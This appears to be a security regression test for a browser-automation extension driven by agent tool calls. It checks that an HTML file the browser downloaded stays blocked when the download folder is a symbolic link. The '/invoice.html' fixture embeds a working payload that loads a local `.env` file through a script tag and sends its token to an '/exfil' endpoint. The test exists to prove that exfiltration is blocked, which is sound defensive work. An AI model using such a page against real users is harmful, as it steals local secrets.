/**
 * The tools refuse a file the browser downloaded unless it runs no script (an HTML file opened from
 * disk could load a hidden `.env` as a script and send it out): the file's path is looked up in
 * Chrome's download records. Those hold the path Chrome wrote to, through the download folder as
 * set, so with a download folder that is a symbolic link (~/Downloads leading to a larger disk)
 * the file's real path, where the same file opens, matched no record and the page was opened, its
 * scripts run. Now a record of a file of the same name is compared by where its path leads too.
 * Performed as an agent would (REST tool calls), in real Chromium with the real extension.
 */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { allowFileUrls, expectPageRefused, startBrowserHarness, waitUntil, type BrowserHarness } from '../harness/browser.ts';

setDefaultTimeout(180_000);

let h: BrowserHarness;
let home = '';
const SECRET = 's3cr3t-f0ld3r-l1nk-22a';
/** What the downloaded page sent out. */
const received: string[] = [];

beforeAll(async () => {
  home = mkdtempSync(join(tmpdir(), 'opentabs-s22a-dl-link-'));
  mkdirSync(join(home, 'project'));
  mkdirSync(join(home, 'notes'));
  mkdirSync(join(home, 'disk', 'downloads'), { recursive: true });
  // The download folder is a link to a folder on another disk.
  symlinkSync(join(home, 'disk', 'downloads'), join(home, 'Downloads'));
  writeFileSync(join(home, 'project', '.env'), `TOKEN="${SECRET}"\n`);
  writeFileSync(join(home, 'notes', 'plain.html'), '<!doctype html><p>an ordinary local note</p>');
  writeFileSync(join(home, 'disk', 'invoice.html'), '<!doctype html><p>a local page of the same name the browser did not download</p>');
  h = await startBrowserHarness({
    permissions: { browser: { default: 'auto' } },
    routes: (req) => {
      const u = new URL(req.url);
      if (u.pathname === '/exfil') {
        received.push(u.searchParams.get('v') ?? '');
        return new Response('ok', { headers: { 'access-control-allow-origin': '*' } });
      }
      if (u.pathname === '/invoice.html') {
        const exfil = new URL('/exfil', u.origin).href;
        const page = `<!doctype html><title>invoice</title><script src="file://${home}/project/.env"></script><script>fetch(${JSON.stringify(exfil)} + '?v=' + encodeURIComponent(String(window.TOKEN)), { mode: 'no-cors' })</script><p>Invoice</p>`;
        return new Response(page, { headers: { 'content-type': 'text/html' } });
      }
      return undefined;
    },
  });
  await allowFileUrls(h, `file://${home}/notes/plain.html`);
  const cdp = await h.context.browser()!.newBrowserCDPSession();
  await cdp.send('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: join(home, 'Downloads'), eventsEnabled: true });
}, 120_000);

afterAll(async () => {
  await h?.stop();
  if (home) rmSync(home, { recursive: true, force: true });
});

type Listed = { downloadId: number; filename: string; state: string };

const fileUrl = (path: string) => `file://${path.split('/').map(encodeURIComponent).join('/')}`;

describe('a downloaded page opened where the download folder leads', () => {
  test('is refused by its real path as by the path Chrome wrote; its scripts never run', async () => {
    const r = await h.callTool('browser_download', { url: h.fixtureUrl('/invoice.html'), filename: 'invoice.html' });
    expect(r.status).toBe(200);
    const id = r.body.result.downloadId as number;
    const done = await waitUntil(async () => {
      const list = (await h.callTool('browser_list_downloads', { limit: 100 })).body.result.downloads as Listed[];
      return list.find((d) => d.downloadId === id && d.state === 'complete');
    }, 'the download');
    // Chrome's record names the file through the linked folder.
    expect(done.filename).toBe(join(home, 'Downloads', 'invoice.html'));
    for (const path of [join(home, 'disk', 'downloads', 'invoice.html'), join(home, 'Downloads', 'invoice.html')]) {
      const url = fileUrl(path);
      expectPageRefused(await h.callTool('browser_open_tab', { url }), `browser_open_tab ${path}`, /a file the browser downloaded from the web/);
      const tab = await h.callTool('browser_open_tab', { url: h.fixtureUrl('/pages/index.html') });
      expect(tab.status).toBe(200);
      expectPageRefused(await h.callTool('browser_navigate_tab', { tabId: tab.body.result.id, url }), `browser_navigate_tab ${path}`, /a file the browser downloaded/);
      await h.callTool('browser_close_tab', { tabId: tab.body.result.id });
    }
    expect(received).toEqual([]);
  });

  test('a local page of the same name elsewhere, and one the browser did not download, still open', async () => {
    for (const url of [fileUrl(join(home, 'disk', 'invoice.html')), `file://${home}/notes/plain.html`]) {
      const r = await h.callTool('browser_open_tab', { url });
      expect([url, r.status]).toEqual([url, 200]);
      await h.callTool('browser_close_tab', { tabId: r.body.result.id });
    }
  });
});
